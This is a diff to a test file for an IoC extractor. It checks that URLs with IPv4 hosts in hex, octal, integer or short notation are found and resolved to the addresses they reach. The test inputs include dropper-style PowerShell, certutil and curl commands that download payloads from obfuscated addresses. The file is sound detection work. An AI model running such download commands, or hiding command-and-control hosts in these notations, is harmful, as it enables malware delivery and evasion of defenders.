@@ -40,8 +40,8 @@ test("junk is still no URL: empty or broken hosts, invalid dotted numbers, hosts
     "https://-bad-/x",
     "https://a..b/x",
     "http://.hidden/x",
-    "http://1.2.3/x",
     "http://999.10.10.10/x",
+    "http://1.2.3.4.5/x",
     "http://${HOST}/x",
     "http://%s/x",
     "http://<server>/x",
@@ -53,6 +53,52 @@ test("junk is still no URL: empty or broken hosts, invalid dotted numbers, hosts
   }
 });
 
+// Browsers read `http://0x7f.0.0.1/`, `http://2130706433/`, `http://0177.0.0.1/` and `http://127.1/` as 127.0.0.1
+// (WHATWG URL), and droppers write C2 addresses so to hide them. The hex, octal and short forms were no URL at all
+// (a numeric last label had to be a dotted quad), and no form gave the address: a hunt for 127.0.0.1 or a C2
+// address in ipv4 observables missed them.
+test("a URL whose host is an IPv4 address in another notation is found whole, and the address it reaches is an ipv4 observable", () => {
+  const cases: [string, string][] = [
+    ["http://0x7f.0.0.1/", "127.0.0.1"],
+    ["http://2130706433/", "127.0.0.1"],
+    ["http://0177.0.0.1/x", "127.0.0.1"],
+    ["http://127.1/", "127.0.0.1"],
+    ["https://0x2d.0123.16706/stage2.ps1", "45.83.65.66"],
+    ["http://0xC0A80001:8080/payload.exe?a=1", "192.168.0.1"],
+    ["http://0x2D.0x53.0x42.0x0A./x", "45.83.66.10"],
+    ["hxxp://0x2d[.]83[.]66[.]10/x", "45.83.66.10"],
+    ["http://1.2.3/x", "1.2.0.3"],
+    ["http://user:pw@3232235777/x", "192.168.1.1"],
+  ];
+  for (const [url, address] of cases) {
+    const found = iocs.extractText(`powershell iwr ${url} -OutFile a.exe`);
+    assert.deepEqual(found.url, [url.replace("hxxp", "http").replaceAll("[.]", ".").replace("user:pw@", "***@")], url);
+    assert.deepEqual(found.ipv4, [address], url);
+    assert.equal(found.dns, undefined, url);
+    assert.equal(detectIocType(url), "url", url);
+  }
+  // In a frame: the url row and the ipv4 row keep the cell as written in Input.
+  const df = iocs.extract(pl.DataFrame({ CommandLine: ["certutil -urlcache -f http://0x2d.0x53.0x42.0x0a/x.exe x.exe", "curl http://45.83.66.10/x"] }), { columns: "CommandLine" });
+  assert.deepEqual(df.select("IoCType", "Observable", "SourceIndex").toRecords(), [
+    { IoCType: "url", Observable: "http://0x2d.0x53.0x42.0x0a/x.exe", SourceIndex: 0 },
+    { IoCType: "ipv4", Observable: "45.83.66.10", SourceIndex: 0 },
+    { IoCType: "ipv4", Observable: "45.83.66.10", SourceIndex: 1 },
+    { IoCType: "url", Observable: "http://45.83.66.10/x", SourceIndex: 1 },
+  ]);
+  assert.equal(df.getColumn("Input").toArray()[1], "certutil -urlcache -f http://0x2d.0x53.0x42.0x0a/x.exe x.exe");
+  // Not an address: names that only look hex (a final label no number), numbers no browser takes.
+  for (const url of ["http://cafe.be/x", "http://0xbad.com/x", "http://deadbeef/x"]) {
+    const found = iocs.extractText(url);
+    assert.deepEqual(found.url, [url], url);
+    assert.equal(found.ipv4, undefined, url);
+  }
+  // With urlHostAsDns off, as for a name, the host is not reported.
+  assert.equal(iocs.extractText("http://0x7f.0.0.1/", { urlHostAsDns: false }).ipv4, undefined);
+  // TI lookups read the URL as the address it reaches (the loopback is not sent anywhere).
+  assert.deepEqual(classifyIoc("http://0x2d.0x53.0x42.0x0a/x"), { ioc: "http://0x2d.0x53.0x42.0x0a/x", type: "url", safeIoc: "http://45.83.66.10/x" });
+  assert.deepEqual(classifyIoc("http://127.1/"), { ioc: "http://127.1/", type: "url", safeIoc: "http://127.0.0.1/" });
+});
+
 test("whole-value detection (IoCExtract.getIocType, TILookup) calls intranet URLs `url`", () => {
   for (const value of ["http://badhost/pwnme", "http://srv/file.sct", "hxxp://stager01[.]lan/a", "https://10.0.0.5:8443/x", "http://[fe80::1]/y"]) {
     assert.equal(classifyObservable(value), "url", value);
@@ -61,7 +107,7 @@ test("whole-value detection (IoCExtract.getIocType, TILookup) calls intranet URL
   }
   assert.deepEqual(classifyIoc("http://BadHost/pwnme"), { ioc: "http://BadHost/pwnme", type: "url", safeIoc: "http://badhost/pwnme" });
   assert.deepEqual(classifyIoc("hxxp://stager01[.]lan/a"), { ioc: "hxxp://stager01[.]lan/a", type: "url", safeIoc: "http://stager01.lan/a" });
-  for (const value of ["http://", "http://-x-/", "http://1.2.3/", "http://a b/"]) assert.equal(detectIocType(value), "unknown", value);
+  for (const value of ["http://", "http://-x-/", "http://999.1.1.1/", "http://a b/"]) assert.equal(detectIocType(value), "unknown", value);
   // A single label alone is still no dns observable.
   assert.equal(detectIocType("badhost"), "unknown");
 });
